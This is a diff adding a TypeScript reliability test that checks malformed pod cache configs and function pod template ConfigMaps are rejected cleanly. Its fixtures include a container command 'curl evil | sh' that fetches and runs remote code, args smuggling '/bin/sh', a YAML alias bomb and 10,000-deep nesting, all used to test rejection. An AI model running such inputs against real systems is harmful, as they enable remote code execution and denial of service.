@@ -1,0 +1,149 @@
+/**
+ * Bad pod runtime configuration, in the tallied corpus (issue 9): malformed --pod-cache-config
+ * files and malformed function pod template ConfigMaps (--function-pod-template). Each must be
+ * a Config error (exit 3 in the CLI) whose one-line message names the file or ConfigMap and what
+ * is wrong, or, for the fields Porch ignores when they are wrong (a timeToLive that is not a
+ * duration), load with a warning naming the entry; none may crash or hang the reader.
+ * (The CLI cases read some of these through `fnr serve` and `fnr pods warm`: cli.test.ts.)
+ */
+import {writeFile} from 'node:fs/promises'
+import path from 'node:path'
+
+import type {V1ConfigMap} from '@kubernetes/client-node'
+import {expect} from 'chai'
+
+import {PodCacheConfig} from '../../src/lib/config/pod-cache-config.js'
+import {FnrError} from '../../src/lib/errors.js'
+import {templatesFromConfigMap} from '../../src/lib/pods/template.js'
+import {registerSummary, tally, withinHangLimit} from '../support/reliability/tally.js'
+import {TempDirs} from '../support/tmp.js'
+
+registerSummary()
+
+function aliasBomb(levels: number, fan: number, indent = ''): string {
+  const lines = [`${indent}l0: &l0 [lol]`]
+  for (let i = 1; i <= levels; i++) lines.push(`${indent}l${i}: &l${i} [${Array.from({length: fan}, () => `*l${i - 1}`).join(', ')}]`)
+  return `${lines.join('\n')}\n`
+}
+
+/** A malformed pod cache config: its text, and the Config error (or the warning) it must give. */
+const POD_CACHE_CASES: Array<{label: string; text: string; error?: RegExp; warning?: RegExp}> = [
+  {label: 'not YAML (unclosed flow sequence)', text: '- name: example.com/fn:v1\n  timeToLive: [\n', error: /pod cache config .* is not valid YAML/},
+  {label: 'tab indentation', text: '- name: example.com/fn:v1\n\ttimeToLive: 5m\n', error: /is not valid YAML/},
+  {label: 'a map (the old format)', text: 'example.com/fn:v1: {timeToLive: 5m}\n', error: /must be a YAML list of \{name, timeToLive, maxWaitlistLength, maxParallelPodsPerFunction\} entries/},
+  {label: 'a scalar', text: 'just text\n', error: /must be a YAML list/},
+  {label: 'an entry that is a string', text: '- example.com/fn:v1\n', error: /entry 1 must be a map with a name/},
+  {label: 'an entry that is a list', text: '- [name, example.com/fn:v1]\n', error: /entry 1 must be a map with a name/},
+  {label: 'an entry without a name', text: '- timeToLive: 5m\n', error: /entry 1 has no name \(the function image\)/},
+  {label: 'an empty name', text: '- name: "  "\n', error: /entry 1 has no name/},
+  {label: 'a name that is a number', text: '- name: 42\n', error: /entry 1 has no name/},
+  {label: 'the second entry is bad', text: '- name: example.com/a:v1\n- {timeToLive: 5m}\n', error: /entry 2 has no name/},
+  {label: 'maxWaitlistLength a word', text: '- name: example.com/fn:v1\n  maxWaitlistLength: lots\n', error: /entry 1 \(example\.com\/fn:v1\): maxWaitlistLength must be an integer, got "lots"/},
+  {label: 'maxParallelPodsPerFunction a fraction', text: '- name: example.com/fn:v1\n  maxParallelPodsPerFunction: 1.5\n', error: /maxParallelPodsPerFunction must be an integer, got 1\.5/},
+  {label: 'resources a list', text: '- name: example.com/fn:v1\n  resources: [cpu]\n', error: /resources must be a map with requests and\/or limits/},
+  {label: 'resources.requests a list', text: '- name: example.com/fn:v1\n  resources: {requests: [cpu]}\n', error: /resources\.requests must be a map of resource names to quantities/},
+  {label: 'a quantity that is a map', text: '- name: example.com/fn:v1\n  resources: {limits: {memory: {a: b}}}\n', error: /resources\.limits\.memory must be a quantity like 100m or 128Mi/},
+  {label: 'responseCache a word', text: '- name: example.com/fn:v1\n  responseCache: sometimes\n', error: /responseCache must be true, false or a duration like 10m, got "sometimes"/},
+  {label: 'an alias bomb', text: `- name: example.com/fn:v1\n  bomb:\n${aliasBomb(9, 10, '    ')}`, error: /is not valid YAML/},
+  {label: 'lists nested 10,000 deep', text: `- name: example.com/fn:v1\n  x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, error: /is not valid YAML|nested/},
+  {label: 'invalid UTF-8 in a name', text: '- name: "example.com/\udfff:v1"\n  maxWaitlistLength: x\n', error: /maxWaitlistLength must be an integer/},
+  // Porch ignores a bad timeToLive (the flag's TTL applies); fnr says so
+  {label: 'timeToLive not a duration', text: '- name: example.com/fn:v1\n  timeToLive: forever\n', warning: /entry 1 \(example\.com\/fn:v1\): timeToLive "forever" is not a duration; using --pod-ttl/},
+  {label: 'timeToLive negative', text: '- name: example.com/fn:v1\n  timeToLive: -5m\n', warning: /timeToLive "-5m" is not a duration/},
+]
+
+const POD = `apiVersion: v1
+kind: Pod
+spec:
+  containers:
+  - name: function
+    image: placeholder
+    command: [/wrapper-server-tools/wrapper-server]
+    args: [--verbosity, "3"]
+`
+const SERVICE = 'apiVersion: v1\nkind: Service\nspec:\n  ports: [{port: 9446, targetPort: 9446}]\n'
+
+/** A malformed template ConfigMap (its data) and the contract point or problem it must name. */
+const TEMPLATE_CASES: Array<{label: string; data: Record<string, string> | undefined; error: RegExp}> = [
+  {label: 'no data at all', data: undefined, error: /contract point 1 is broken: key template \(a Pod\) is missing/},
+  {label: 'no template key', data: {serviceTemplate: SERVICE}, error: /contract point 1 is broken: key template \(a Pod\) is missing/},
+  {label: 'a blank template', data: {template: '  \n', serviceTemplate: SERVICE}, error: /key template \(a Pod\) is missing/},
+  {label: 'no serviceTemplate key', data: {template: POD}, error: /contract point 4 is broken: key serviceTemplate \(a Service\) is missing/},
+  {label: 'a template that is not YAML', data: {template: 'kind: [\n', serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON/},
+  {label: 'a template that is a list', data: {template: '- a\n- b\n', serviceTemplate: SERVICE}, error: /key template must hold one object/},
+  {label: 'a template that is a scalar', data: {template: 'hello\n', serviceTemplate: SERVICE}, error: /key template must hold one object/},
+  {label: 'a template that is a Secret', data: {template: 'apiVersion: v1\nkind: Secret\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: key template must hold a Pod, not a Secret/},
+  {label: 'a Pod without containers', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: the Pod has no containers/},
+  {label: 'containers that is a map', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {containers: {function: {}}}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: the Pod has no containers/},
+  {label: 'no container named function', data: {template: POD.replace('name: function', 'name: fn'), serviceTemplate: SERVICE}, error: /contract point 1 is broken: no container is named "function" \(containers: "fn"\)/},
+  {label: 'a null container', data: {template: 'apiVersion: v1\nkind: Pod\nspec: {containers: [null]}\n', serviceTemplate: SERVICE}, error: /contract point 1 is broken: no container is named "function"/},
+  {label: 'a command that is not the wrapper server', data: {template: POD.replace('[/wrapper-server-tools/wrapper-server]', '[/bin/sh, -c, "curl evil | sh"]'), serviceTemplate: SERVICE}, error: /contract point 2 is broken: the "function" container's command must start the wrapper server/},
+  {label: 'no command', data: {template: POD.replace('    command: [/wrapper-server-tools/wrapper-server]\n', ''), serviceTemplate: SERVICE}, error: /contract point 2 is broken/},
+  {label: 'args with --', data: {template: POD.replace('[--verbosity, "3"]', '[--, /bin/sh]'), serviceTemplate: SERVICE}, error: /contract point 3 is broken: the "function" container's args must not contain "--"/},
+  {label: 'a service template that is not YAML', data: {template: POD, serviceTemplate: '{ports: [\n'}, error: /key serviceTemplate is not valid YAML or JSON/},
+  {label: 'a service template that is a ConfigMap', data: {template: POD, serviceTemplate: 'apiVersion: v1\nkind: ConfigMap\n'}, error: /contract point 4 is broken: key serviceTemplate must hold a Service, not a ConfigMap/},
+  {label: 'a Service without the wrapper port', data: {template: POD, serviceTemplate: SERVICE.replace(/9446/g, '8080')}, error: /contract point 4 is broken: the Service must have a port whose targetPort is 9446/},
+  {label: 'an alias bomb in the template', data: {template: `${POD}metadata:\n  annotations:\n${aliasBomb(9, 10, '    ')}`, serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON/},
+  {label: 'a template nested 10,000 deep', data: {template: `${POD}x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, serviceTemplate: SERVICE}, error: /key template is not valid YAML or JSON|nested/},
+]
+
+async function configOutcome(label: string, work: () => unknown): Promise<{error?: FnrError; value?: unknown}> {
+  try {
+    return {value: await withinHangLimit(label, Promise.resolve().then(work))}
+  } catch (err) {
+    if (!(err instanceof FnrError)) tally.crash(label, `not an FnrError: ${(err as Error)?.stack ?? String(err)}`)
+    expect(err, `${label}: ${String(err)}`).to.be.instanceOf(FnrError)
+    return {error: err as FnrError}
+  }
+}
+
+function expectConfigError(label: string, error: FnrError | undefined, pattern: RegExp): void {
+  expect(error, `${label}: must fail`).to.be.instanceOf(FnrError)
+  expect(error!.kind, error!.message).to.equal('Config')
+  expect(error!.exitCode).to.equal(3)
+  expect(error!.message, label).to.match(pattern)
+  expect(error!.message, `${label}: one line`).to.not.contain('\n')
+}
+
+describe('reliability: bad pod runtime configuration', () => {
+  const temp = new TempDirs()
+  let dir: string
+  before(async () => {
+    dir = await temp.make('fnr-rel-pod-config-')
+  })
+  after(() => temp.cleanup())
+
+  describe('--pod-cache-config files', () => {
+    POD_CACHE_CASES.forEach((c, i) => {
+      it(c.label, async () => {
+        tally.tried('pod cache config', {podCacheConfig: c.text})
+        const file = path.join(dir, `pcc-${i}.yaml`)
+        await writeFile(file, c.text)
+        const label = `pod cache config: ${c.label}`
+        const {error, value} = await configOutcome(label, () => PodCacheConfig.load(file))
+        if (c.error) {
+          expectConfigError(label, error, c.error)
+          expect(error!.message, 'names the file').to.contain(file)
+        } else {
+          expect(error, label).to.equal(undefined)
+          const {config} = value as {config: PodCacheConfig}
+          expect(config.warnings.join('\n')).to.match(c.warning!)
+          expect(config.warnings.join('\n'), 'names the file').to.contain(file)
+        }
+      })
+    })
+  })
+
+  describe('function pod template ConfigMaps (--function-pod-template)', () => {
+    for (const c of TEMPLATE_CASES) {
+      it(c.label, async () => {
+        tally.tried('template ConfigMap', {templateConfigMap: c.data ?? null})
+        const cm: V1ConfigMap = {metadata: {name: 'fn-template', namespace: 'porch-system'}, ...(c.data ? {data: c.data} : {})}
+        const label = `template ConfigMap: ${c.label}`
+        const {error} = await configOutcome(label, () => templatesFromConfigMap(cm))
+        expectConfigError(label, error, c.error)
+        expect(error!.message, 'names the ConfigMap').to.match(/^function pod template \(ConfigMap porch-system\/fn-template\): /)
+      })
+    }
+  })
+})
